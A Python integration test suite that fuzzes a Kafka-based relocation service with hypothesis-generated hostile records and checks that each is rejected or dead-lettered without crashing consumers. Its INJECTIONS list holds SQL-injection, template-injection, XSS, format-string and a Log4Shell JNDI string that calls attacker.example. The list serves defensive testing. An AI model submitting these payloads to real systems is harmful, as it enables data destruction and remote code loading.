"""Hostile input on the real broker: every record a firm could get wrong, generated with
hypothesis and published as raw bytes, is answered (a rejection with a specific code) or
dead-lettered with a specific reason; no consumer crashes or stalls, and valid requests
interleaved with the garbage are accepted, matched and notified.

Hypothesis generates the cases up front (its shrinking cannot drive a broker round trip); a
failing case is printed in full by the assertion.
"""

import asyncio
import copy
import json
import re
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from aiokafka import AIOKafkaProducer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deploy.local import kafka_access
from deploy.local import services as svc
from deploy.local.config import SERVICES, StackConfig
from deploy.local.firm import SAMPLE_FAMILIES, assignment_request
from deploy.local.processes import read_pid
from deploy.local.topic_reader import Received, TopicReader
from shared import dead_letter, topics
from shared.topics import FirmEvent, firm_topic

pytestmark = pytest.mark.integration

# The requests' firm (the sample requests' default, a local firm) and its own topics.
FIRM = "nordic-relocation"
REQUESTED, REJECTED, NOTIFIED = (
    firm_topic(FIRM, e)
    for e in (FirmEvent.ASSIGNMENT_REQUESTED, FirmEvent.ASSIGNMENT_REJECTED, FirmEvent.STAKEHOLDER_NOTIFIED)
)

CASES_PER_STRATEGY = 12
INJECTIONS = (
    "'; DROP TABLE assignments; --",
    "Robert'); DELETE FROM inbox; --",
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "%s%s%s%n",
)
# Paths in a valid request that hold text a firm fills in.
TEXT_PATHS = (
    ("payload", "partner", "full_name"),
    ("payload", "employee", "full_name"),
    ("payload", "hr_contact", "full_name"),
    ("payload", "partner", "profile", "occupation"),
    ("payload", "host_location", "city"),
    ("correlation_id",),
)
CODE = re.compile(r"^[a-z][a-z0-9_]*$")


@dataclass
class Case:
    kind: str
    key: bytes | None
    value: bytes
    headers: list[tuple[str, bytes]]
    # Codes the rejection must contain; None when a valid request may be accepted instead.
    expect_codes: set[str] | None
    correlation_id: str | None = None
    partition: int = -1
    offset: int = -1

    def __repr__(self) -> str:
        return f"Case({self.kind}, key={self.key!r}, value={self.value[:300]!r}, headers={self.headers!r})"


def _valid() -> dict[str, Any]:
    # A deep copy: the request shares lists (skills, goals) with SAMPLE_FAMILIES, and the
    # strategies below mutate requests in place.
    request = copy.deepcopy(assignment_request(SAMPLE_FAMILIES[0]))
    request["correlation_id"] = f"hostile-{uuid.uuid4().hex[:16]}"
    return request


def _key(request: dict[str, Any]) -> bytes:
    assignment_id = request.get("payload", {}).get("assignment_id")
    return str(assignment_id or uuid.uuid4()).encode()


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += _paths(child, (*prefix, index))
    return found


def _get(document: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        document = document[part]
    return document


def _encoded(kind: str, request: dict[str, Any], expect: set[str] | None, key: bytes | None = None) -> Case:
    correlation_id = request.get("correlation_id")
    return Case(
        kind,
        key if key is not None else _key(request),
        json.dumps(request).encode(),
        [],
        expect,
        correlation_id if isinstance(correlation_id, str) else None,
    )


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=6,
)
PATHS = _paths(_valid())


@st.composite
def wrong_types(draw: st.DrawFn) -> Case:
    request = _valid()
    path = draw(st.sampled_from(PATHS))
    original = _get(request, path)
    replacement = draw(json_values.filter(lambda v: type(v) is not type(original) and not isinstance(v, str)))
    _get(request, path[:-1])[path[-1]] = replacement
    # A wrong type nested in a list is reported at the list item, a bool in an int field may
    # even validate: the code is checked below, not predicted here.
    return _encoded("wrong_type", request, None)


@st.composite
def missing_fields(draw: st.DrawFn) -> Case:
    request = _valid()
    path = draw(st.sampled_from([p for p in PATHS if isinstance(p[-1], str) and p[-1] != "skills"]))
    del _get(request, path[:-1])[path[-1]]
    optional = {"preferred_language", "schema_version", "event_type"}
    return _encoded("missing_field", request, None if path[-1] in optional else {"missing_field"})


@st.composite
def extra_fields(draw: st.DrawFn) -> Case:
    request = _valid()
    objects = [p for p in PATHS if isinstance(_get(request, p), dict)] + [()]
    target = _get(request, draw(st.sampled_from(objects)))
    target[draw(st.text(min_size=1, max_size=30).filter(lambda k: k not in target))] = draw(json_values)
    return _encoded("extra_field", request, {"unknown_field"})


@st.composite
def enormous(draw: st.DrawFn) -> Case:
    request = _valid()
    if draw(st.booleans()):
        path = draw(st.sampled_from(TEXT_PATHS))
        _get(request, path[:-1])[path[-1]] = draw(st.sampled_from("xé€𝄞")) * draw(st.integers(10_000, 200_000))
        return _encoded("enormous_string", request, {"string_too_long"})
    request["payload"]["partner"]["profile"]["skills"] = ["python"] * draw(st.integers(1_000, 50_000))
    return _encoded("enormous_array", request, {"too_long"})


@st.composite
def deep_nesting(draw: st.DrawFn) -> Case:
    depth = draw(st.integers(200, 20_000))
    opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
    request = _valid()
    body = json.dumps(request)[:-1] + ', "nested": ' + opener * depth + "1" + closer * depth + "}"
    return Case("deep_nesting", _key(request), body.encode(), [], set())


@st.composite
def invalid_utf8(draw: st.DrawFn) -> Case:
    request = _valid()
    body = json.dumps(request).encode()
    at = draw(st.integers(0, len(body)))
    bad = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"]))
    return Case("invalid_utf8", _key(request), body[:at] + bad + body[at:], [], {"invalid_encoding"})


@st.composite
def nul_characters(draw: st.DrawFn) -> Case:
    request = _valid()
    path = draw(st.sampled_from(TEXT_PATHS))
    text = _get(request, path)
    at = draw(st.integers(0, len(text)))
    _get(request, path[:-1])[path[-1]] = text[:at] + "\x00" + text[at:]
    if draw(st.booleans()):  # raw NUL byte: not even JSON
        raw = json.dumps(request).replace("\\u0000", "\x00").encode()
        return Case("nul_byte", _key(request), raw, [], {"malformed_json"})
    return _encoded("nul_character", request, {"nul_character"})


@st.composite
def injections(draw: st.DrawFn) -> Case:
    request = _valid()
    path = draw(st.sampled_from(TEXT_PATHS[:-1]))
    _get(request, path[:-1])[path[-1]] = draw(st.sampled_from(INJECTIONS))
    return _encoded("injection", request, None)


@st.composite
def dates_out_of_range(draw: st.DrawFn) -> Case:
    request = _valid()
    field, value = draw(
        st.sampled_from(
            [
                (("payload", "start_date"), "0001-01-01"),
                (("payload", "start_date"), "9999-12-31"),
                (("payload", "start_date"), "2026-02-30"),
                (("payload", "start_date"), "+10000-01-01"),
                (("payload", "start_date"), "-0001-01-01"),
                (("occurred_at",), "9999-12-31T23:59:59-14:00"),
                (("occurred_at",), "0001-01-01T00:00:00+14:00"),
                (("occurred_at",), "2026-13-01T00:00:00Z"),
                (("payload", "partner", "consent", "recorded_at"), "9999-12-31T23:00:00-10:00"),
                (("payload", "partner", "consent", "recorded_at"), "2026-01-01T00:00:00"),
            ]
        )
    )
    _get(request, field[:-1])[field[-1]] = value
    return _encoded("date_out_of_range", request, set())


@st.composite
def mismatched_keys(draw: st.DrawFn) -> Case:
    request = _valid()
    key = draw(st.one_of(st.just(str(uuid.uuid4()).encode()), st.binary(min_size=1, max_size=40)))
    return _encoded("key_mismatch", request, {"key_mismatch"}, key=key)


@st.composite
def hostile_headers(draw: st.DrawFn) -> Case:
    request = _valid()
    case = _encoded("hostile_headers", request, None)
    case.headers = draw(st.lists(st.tuples(st.text(min_size=1, max_size=10), st.binary(max_size=30)), max_size=4))
    return case


@st.composite
def raw_bytes(draw: st.DrawFn) -> Case:
    value = draw(st.binary(min_size=1, max_size=200))
    return Case("raw_bytes", draw(st.binary(max_size=20) | st.none()), value, [], set())


STRATEGIES = (
    wrong_types(),
    missing_fields(),
    extra_fields(),
    enormous(),
    deep_nesting(),
    invalid_utf8(),
    nul_characters(),
    injections(),
    dates_out_of_range(),
    mismatched_keys(),
    hostile_headers(),
    raw_bytes(),
)


def generate(strategy: st.SearchStrategy[Case], count: int) -> list[Case]:
    cases: list[Case] = []

    @settings(max_examples=count, database=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(strategy)
    def collect(case: Case) -> None:
        cases.append(case)

    collect()
    return cases


def duplicate_event_id_cases() -> list[Case]:
    first = _valid()
    redelivered = _encoded("duplicate_event_id", first, None)
    reused = _valid()
    reused["event_id"] = first["event_id"]
    # Same key as the first: same partition, so the reuse is read after the original.
    reuse = _encoded("duplicate_event_id", reused, {"duplicate_event_id"}, key=_key(first))
    return [redelivered, copy.copy(redelivered), reuse]


async def _publish(cfg: StackConfig, topic: str, cases: list[Case]) -> None:
    """As the topic's own firm (a firm's inbound topic) or as the stack's tooling (internal ones)."""
    producer = AIOKafkaProducer(
        bootstrap_servers=cfg.kafka_bootstrap,
        acks="all",
        enable_idempotence=True,
        max_request_size=4_000_000,
        **kafka_access.owner_options(cfg, topic),
    )
    await producer.start()
    try:
        for case in cases:
            sent = await producer.send_and_wait(topic, value=case.value, key=case.key, headers=case.headers)
            case.partition, case.offset = sent.partition, sent.offset
    finally:
        await producer.stop()


def _at(record: Received, case: Case) -> bool:
    if record.topic == topics.DEAD_LETTER:
        h = record.headers
        return (h.get(dead_letter.PARTITION), h.get(dead_letter.OFFSET)) == (str(case.partition), str(case.offset))
    located = record.value.get("payload", {}).get("record", {})
    return (located.get("partition"), located.get("offset")) == (case.partition, case.offset)


def _dead_letters(records: list[Received], case: Case, topic: str) -> list[Received]:
    return [
        r for r in records if r.topic == topics.DEAD_LETTER and r.headers[dead_letter.TOPIC] == topic and _at(r, case)
    ]


def _outcome(records: list[Received], case: Case) -> str | None:
    """'rejected', 'accepted', 'skipped' (a redelivery) or None while nothing answered."""
    rejections = [r for r in records if r.topic == REJECTED and _at(r, case)]
    if rejections and _dead_letters(records, case, REQUESTED):
        return "rejected"
    if case.correlation_id and any(
        r.topic == topics.ASSIGNMENT_CREATED and r.value.get("correlation_id") == case.correlation_id for r in records
    ):
        return "accepted"
    return None


def _check_rejection(records: list[Received], case: Case) -> None:
    [rejection] = [r for r in records if r.topic == REJECTED and _at(r, case)]
    codes = {e["code"] for e in rejection.value["payload"]["errors"]}
    assert codes and all(CODE.match(code) for code in codes), case
    if case.expect_codes:
        assert case.expect_codes <= codes, (codes, case)
    [letter] = _dead_letters(records, case, REQUESTED)
    assert letter.headers[dead_letter.REASON].startswith("rejected: "), case
    assert all(code in letter.headers[dead_letter.REASON] for code in codes), case


MUST_ACCEPT = ("valid", "injection", "hostile_headers")


async def _until(condition: Callable[[], bool], timeout_s: float, what: str) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.5)


def _interleave(cases: list[Case], valid_count: int) -> list[Case]:
    every = max(1, len(cases) // valid_count)
    mixed: list[Case] = []
    for index, case in enumerate(cases):
        mixed.append(case)
        if index % every == 0:
            mixed.append(_encoded("valid", _valid(), None))
    return mixed


async def test_hostile_requests_are_each_answered_and_valid_traffic_flows(local_stack: StackConfig) -> None:
    pids = {s: read_pid(local_stack, s) for s in SERVICES}
    cases = [case for strategy in STRATEGIES for case in generate(strategy, CASES_PER_STRATEGY)]
    original, redelivery, reuse = duplicate_event_id_cases()
    interleaved = [*_interleave(cases, 6), original, redelivery, reuse]
    must_answer = [c for c in interleaved if c is not redelivery]
    flowing = [c for c in interleaved if c.kind in MUST_ACCEPT or c is original]
    reader = TopicReader(
        local_stack,
        REJECTED,
        topics.ASSIGNMENT_CREATED,
        topics.DEAD_LETTER,
        NOTIFIED,
    )
    async with reader:
        await _publish(local_stack, REQUESTED, interleaved)
        await _until(lambda: all(_outcome(reader.records, c) for c in must_answer), 120, "every request answered")
        keys = {c.key.decode() for c in flowing if c.key}
        await _until(
            lambda: len([r for r in reader.records if r.topic == NOTIFIED and r.key in keys]) >= 3 * len(keys),
            60,
            "every accepted request notified",
        )
        await asyncio.sleep(2)  # room for a duplicate to show up
        records = list(reader.records)

    for case in must_answer:
        outcome = _outcome(records, case)
        assert outcome is not None, case
        if case.expect_codes is not None:
            assert outcome == "rejected", case
        if case.kind in MUST_ACCEPT or case is original:
            assert outcome == "accepted", case
        if outcome == "rejected":
            _check_rejection(records, case)
    created = [
        r
        for r in records
        if r.topic == topics.ASSIGNMENT_CREATED and r.value.get("correlation_id") == original.correlation_id
    ]
    assert len(created) == 1, "a redelivered request is accepted once"
    notified = [r for r in records if r.topic == NOTIFIED and r.key in keys]
    assert len(notified) == 3 * len(keys), "three stakeholders per accepted request, no duplicates"
    assert {s: read_pid(local_stack, s) for s in SERVICES} == pids, "no service crashed"
    assert all(svc.service_ready(local_stack, s) for s in SERVICES)
    kinds = sorted({c.kind for c in cases})
    print(f"hostile requests: {len(cases) + 3} ({', '.join(kinds)}, duplicate_event_id), {len(flowing)} flowing")


# Every service that consumes the topic dead-letters its own copy of a garbage record.
INTERNAL = {
    topics.ASSIGNMENT_CREATED: ("matching", "notifications", "gateway", "care"),
    topics.MATCH_PROPOSED: ("notifications", "gateway", "care"),
}


@st.composite
def internal_garbage(draw: st.DrawFn) -> Case:
    kind = draw(st.sampled_from(["bytes", "json", "envelope", "empty"]))
    if kind == "bytes":
        value = draw(st.binary(min_size=1, max_size=100))
    elif kind == "json":
        value = json.dumps(draw(json_values)).encode()
    elif kind == "envelope":
        envelope = {"event_id": str(uuid.uuid4()), "event_type": "assignment.created", "schema_version": 1}
        envelope["payload"] = draw(json_values)
        value = json.dumps(envelope).encode()
    else:
        value = b""
    return Case(f"internal_{kind}", draw(st.binary(min_size=1, max_size=16)), value, [], None)


async def test_garbage_on_internal_topics_is_dead_lettered_and_consumers_carry_on(local_stack: StackConfig) -> None:
    pids = {s: read_pid(local_stack, s) for s in SERVICES}
    garbage = {topic: generate(internal_garbage(), 15) for topic in INTERNAL}
    good = _valid()
    async with TopicReader(local_stack, topics.DEAD_LETTER, NOTIFIED) as reader:
        for topic, cases in garbage.items():
            await _publish(local_stack, topic, cases)
        await _publish(
            local_stack,
            REQUESTED,
            [Case("valid", _key(good), json.dumps(good).encode(), [], None)],
        )
        expected = sum(len(cases) * len(INTERNAL[topic]) for topic, cases in garbage.items())
        letters = await reader.wait_for(  # within 60 s: no stall
            lambda r: (
                r.topic == topics.DEAD_LETTER
                and r.headers[dead_letter.TOPIC] in INTERNAL
                and any(_at(r, c) for c in garbage[r.headers[dead_letter.TOPIC]])
            ),
            count=expected,
            timeout_s=60,
        )
        await reader.wait_for(
            lambda r: r.topic == NOTIFIED and r.key == str(good["payload"]["assignment_id"]),
            count=3,
        )
    for topic, cases in garbage.items():
        for case in cases:
            by = {
                r.headers[dead_letter.CONSUMER]
                for r in letters
                if r.headers[dead_letter.TOPIC] == topic and _at(r, case)
            }
            assert by == set(INTERNAL[topic]), case
    reasons = {r.headers[dead_letter.REASON].split(":")[0] for r in letters}
    assert reasons == {"invalid_event"}, reasons
    assert {s: read_pid(local_stack, s) for s in SERVICES} == pids, "no service crashed"
